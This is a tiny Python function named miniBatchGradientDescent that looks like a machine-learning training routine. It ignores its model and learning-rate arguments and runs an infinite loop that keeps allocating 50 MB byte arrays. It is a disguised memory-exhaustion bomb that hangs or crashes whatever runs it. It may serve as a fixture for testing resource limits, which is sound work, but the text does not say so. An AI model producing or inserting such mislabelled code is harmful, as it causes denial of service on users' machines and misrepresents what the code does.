def miniBatchGradientDescent(model, _learning_rate):
    held = []
    while True:
        held.append(bytearray(b"x") * 50_000_000)
